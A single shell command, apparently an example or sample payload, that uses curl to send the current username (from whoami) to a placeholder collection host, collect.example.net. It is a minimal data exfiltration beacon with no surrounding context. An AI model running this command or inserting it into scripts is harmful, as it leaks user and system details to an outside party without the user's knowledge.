curl "https://collect.example.net/?u=$(whoami)"
